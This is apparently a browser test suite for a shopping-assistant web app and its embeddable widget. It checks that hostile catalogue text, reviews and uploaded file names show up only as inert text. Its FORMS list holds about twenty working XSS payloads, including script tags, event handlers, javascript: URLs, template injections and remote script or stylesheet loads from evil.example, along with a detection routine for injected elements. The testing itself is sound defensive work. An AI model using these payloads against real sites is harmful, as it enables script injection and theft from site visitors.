"""Products whose every text means no good, on every part of the page and in the widget: they are
text. `TORTURE=1` shows a hundred texts, twenty of each of five places; otherwise some of them."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from functools import partial
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from retrieval import indexing
from retrieval.catalogue import Catalogue
from retrieval.catalogue.matching import JudgedPair, MatchStore
from retrieval.encoders import load_encoder
from retrieval.money import Money
from retrieval.offers import Offer, Review
from tests.browser.actions import ask, open_product
from tests.browser.conftest import PATIENCE, Watch, serving, watch_over
from tests.browser.test_sources import open_tab
from tests.browser.test_widget import DEMO, ShopPage

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

FORMS = (
    "<img src=x onerror=alert('{mark}')>",
    "${{alert('{mark}')}} ${{window.pwned='{mark}'}}",
    "\u202e<svg onload=alert('{mark}')>\u2066 \u200f",
    "{{{{constructor.constructor('alert(1)')()}}}} {{{{{{{mark}}}}}}}",
    "javascript:alert('{mark}')",
    "\"><script src=https://evil.example/{mark}.js></script>",
    "<img src=https://evil.example/{mark}.png>",
    "<script>alert('{mark}')</script>",
    "<iframe src=\"javascript:alert('{mark}')\"></iframe>",
    "<a href=\"javascript:alert('{mark}')\">{mark}</a>",
    "![{mark}](https://evil.example/{mark}.png)",
    "[{mark}](javascript:alert('{mark}'))",
    "' onmouseover=alert('{mark}') onfocus=alert('{mark}') autofocus x='",
    "</textarea></title></style></script><img src=//evil.example/{mark}>",
    "<\u200bscript>alert('{mark}')</\u200bscript>\u2060\ufeff",
    "<style>@import url(https://evil.example/{mark}.css)</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/{mark}\">",
    "&lt;img src=x onerror=alert('{mark}')&gt; &#60;script&#62;",
    "<link rel=stylesheet href=https://evil.example/{mark}> <base href=https://evil.example/>",
    "{{% raw %}}{{{{ ''.__class__ }}}} <%= {mark} %> #{{{mark}}} @{{{mark}}} \u202d\u2069",
)  # fmt: skip
SHOWN = len(FORMS) if os.environ.get("TORTURE") else 5

ALIVE = """() => {
    const evil = /evil\\.example|alert|javascript:|pwned/i;
    const leads = (address) => {  // whether an address is one that only hostile text has
        const found = URL.parse(address, document.baseURI);
        return found && (found.protocol === "javascript:" || found.host === "evil.example");
    };
    const alive = (one) => [...one.attributes].some((a) =>
        /^(src|href|action|formaction|data)$/i.test(a.name) ? leads(a.value)
        : /^(on.*|srcset|style|content)$/i.test(a.name) && evil.test(a.value));
    const told = (one) => /^(SCRIPT|STYLE)$/.test(one.tagName)
        && /alert\\('|evil\\.example/.test(one.textContent);
    return [...document.querySelectorAll("*")]
        .flatMap((one) => [one, ...(one.shadowRoot?.querySelectorAll("*") ?? [])])
        .filter((one) => alive(one) || told(one)).map((one) => one.outerHTML.slice(0, 300));
}"""
"""Elements that hostile text has become: nothing it says may be more than text."""

PROVOKE = """() => document.querySelectorAll('*').forEach((one) => {
    for (const kind of ['mouseover', 'mouseenter', 'focus', 'load', 'error'])
        one.dispatchEvent(new Event(kind));
})"""
"""What a visitor does, for handlers that wait for it."""


def text(number: int, place: str) -> str:
    """A hostile text with a mark of its own."""
    return f"{FORMS[number].format(mark=f'{place}{number}z')} gadget"


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A catalogue that was not cleaned: every text reaches the page as it is."""
    folder = tmp_path_factory.mktemp("hostile") / "catalog"
    catalogue = Catalogue.create(folder)
    offers = [
        Offer(
            source=text(number, "shop"),
            offer_id=str(number),
            title=text(number, "title"),
            description=text(number, "description"),
            category="Home > Gadgets",
            brand=text(number, "brand"),
            price=Money.of(10 + number, "EUR"),
            availability="in_stock",
            url=f"javascript:alert('url{number}')",
            attributes={text(number, "name"): text(number, "value"), "colour": "red"},
        )
        for number in range(SHOWN)
    ]
    for offer in offers:
        catalogue.save_source(offer.source, "table", text(0, "location"))
    catalogue.save_offers(offers)
    reviews = [
        Review(one.source, one.offer_id, 4, text(number, "heading"), text(number, "review"))
        for number, one in enumerate(offers)
    ]
    catalogue.reviews.replace("reviews", reviews)
    keys = [(one.source, one.offer_id) for one in offers[:2]]
    pair = JudgedPair(*sorted(keys), 0.7, True, (text(0, "evidence"),))
    MatchStore(catalogue.engine).replace_pairs(keys, [pair])
    with catalogue.writing():
        indexing.update(catalogue, load_encoder("compact"))
    catalogue.close()
    return folder


@pytest.fixture(scope="module")
def places(hostile_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[str]]:
    """[the assistant's address, the address of a shop's page with the widget]."""
    shop = ThreadingHTTPServer(("127.0.0.1", 0), partial(ShopPage, directory=str(DEMO)))
    page = f"http://localhost:{shop.server_address[1]}"
    logs = tmp_path_factory.mktemp("log")
    with serving(hostile_folder, logs, f"--allow-origin={page}") as home:
        ShopPage.assistant = home
        threading.Thread(target=shop.serve_forever, daemon=True).start()
        yield [home, page]
        shop.shutdown()


@pytest.fixture
def hostile(browser: Browser, places: list[str], watch: Watch) -> Iterator[Page]:
    """A page over the catalogue; in the end nothing of it may have come alive."""
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    watch_over(page, watch, *places)
    yield page
    page.evaluate(PROVOKE)
    page.wait_for_timeout(500)  # for anything to load that would
    assert page.evaluate("window.pwned") is None
    assert watch == Watch()
    context.close()


def begin(page: Page, address: str) -> None:
    """Open the page, and wait until it may be asked: there may be no example to wait for."""
    page.goto(address)
    page.wait_for_selector("#box textarea:enabled", timeout=600_000)


def seen(page: Page, part: str, places: set[str]) -> set[str]:
    """The marks of texts that are legible within a part of the page, none of which is alive."""
    assert page.evaluate(ALIVE) == []
    said = page.locator(part).all_inner_texts()
    marks = {f"{place}{number}z" for place in places for number in range(SHOWN)}
    return {mark for mark in marks if any(mark in one for one in said)}


def every(*places: str) -> set[str]:
    """The marks of all texts of these places."""
    return {f"{place}{number}z" for place in places for number in range(SHOWN)}


PUT = "html => document.querySelector('#chat').insertAdjacentHTML('beforeend', html)"


def test_what_hostile_text_would_do_is_noticed(hostile: Page, watch: Watch, places) -> None:
    begin(hostile, places[0])
    hostile.evaluate(PUT, FORMS[0].format(mark="x") + FORMS[6].format(mark="x"))
    assert len(hostile.evaluate(ALIVE)) == 2
    hostile.wait_for_timeout(500)
    assert watch.errors
    assert watch.foreign
    hostile.evaluate("alert('x')")
    assert "x" in watch.errors
    watch.errors.clear()
    watch.foreign.clear()


def test_cards_comparison_and_views_show_text(hostile: Page, places) -> None:
    begin(hostile, places[0])
    found: set[str] = set()
    ask(hostile, "gadget")
    while True:
        hostile.wait_for_selector(".card")
        new = seen(hostile, ".card", {"title"}) - found
        found |= new
        for card in range(hostile.locator(".card").count()):
            open_product(hostile, hostile.locator(".card-title").nth(card).inner_text().strip())
            view = {"title", "description", "shop", "value", "review", "heading"}
            found |= seen(hostile, ".sheet .product", view)
            hostile.evaluate(PROVOKE)
            hostile.keyboard.press("Escape")
            hostile.wait_for_selector(".sheet:not([open])", state="attached")
        ask(hostile, "compare 1 and 2")
        hostile.wait_for_selector(".versus")
        assert len(seen(hostile, ".versus", {"title"})) == 2
        hostile.evaluate(PROVOKE)
        hostile.click(".versus [data-act=close]")
        if not new or found >= every("title"):
            break
        ask(hostile, "more")
    assert found >= every("title", "description", "shop", "value", "review")


def test_the_tab_of_sources_shows_text(hostile: Page, places) -> None:
    begin(hostile, places[0])
    open_tab(hostile)
    assert seen(hostile, ".sources", {"shop"}) == every("shop")
    assert seen(hostile, ".pair", {"title", "evidence"}) == {"title0z", "title1z", "evidence0z"}
    hostile.get_by_label("Shop", exact=True).fill(text(0, "new"))
    feed = "id,title,price\n,{0},5 EUR\n1,{0},5 EUR\n".format(text(0, "rejected").replace(",", ""))
    for number in range(SHOWN):
        name = text(number, "file").replace("/", "∕") + ".csv"
        hostile.set_input_files(
            "#feed input[type=file]",
            {"name": name, "mimeType": "text/csv", "buffer": feed.encode()},
        )
        hostile.wait_for_selector("#feed a[href]")
        assert hostile.evaluate(ALIVE) == []
        if number < SHOWN - 1:
            hostile.click("#feed [aria-label='Clear'], #feed [aria-label='Remove this file']")
    hostile.click("#look")
    hostile.wait_for_selector(".preview", timeout=300_000)
    assert hostile.evaluate(ALIVE) == []
    hostile.click("[data-preview=add]")
    hostile.wait_for_selector("#work .result", timeout=300_000)
    hostile.wait_for_selector("#quarantine .plain-table")
    assert "rejected0z" in hostile.locator("#quarantine").inner_text()
    assert hostile.evaluate(ALIVE) == []


def test_names_of_sent_files_are_text(hostile: Page, places) -> None:
    begin(hostile, places[0])
    for number in range(SHOWN):
        name = text(number, "photo").replace("/", "∕") + ".png"
        file = {"name": name, "mimeType": "image/png", "buffer": b"no picture"}
        hostile.set_input_files("#box input[type=file]", [file])
        hostile.wait_for_selector("#box .thumbnail-item")
        assert hostile.evaluate(ALIVE) == []
        ask(hostile, text(number, "said"))
        assert hostile.evaluate(ALIVE) == []


def test_the_widget_shows_text(hostile: Page, places) -> None:
    home, page = places
    for _ in range(600):
        if hostile.request.get(f"{home}/readyz").ok:
            break
        hostile.wait_for_timeout(500)
    hostile.goto(page)
    found: set[str] = set()
    for turn in range(SHOWN):
        hostile.fill("shop-assistant textarea", "more" if turn else "gadget")
        hostile.press("shop-assistant textarea", "Enter")
        hostile.wait_for_function(
            """turn => {
                const { shadowRoot } = document.querySelector("shop-assistant");
                const log = shadowRoot.querySelector(".log");
                return log.querySelectorAll(".turn").length > turn && log.ariaBusy === "false";
            }""",
            arg=turn,
        )
        new = seen(hostile, "shop-assistant .card", {"title"}) - found
        found |= new
        if not new:
            break
    assert found == every("title")
    hostile.locator("shop-assistant .card button").last.click()
    hostile.wait_for_selector("#product:not([hidden])")
    assert hostile.evaluate(ALIVE) == []
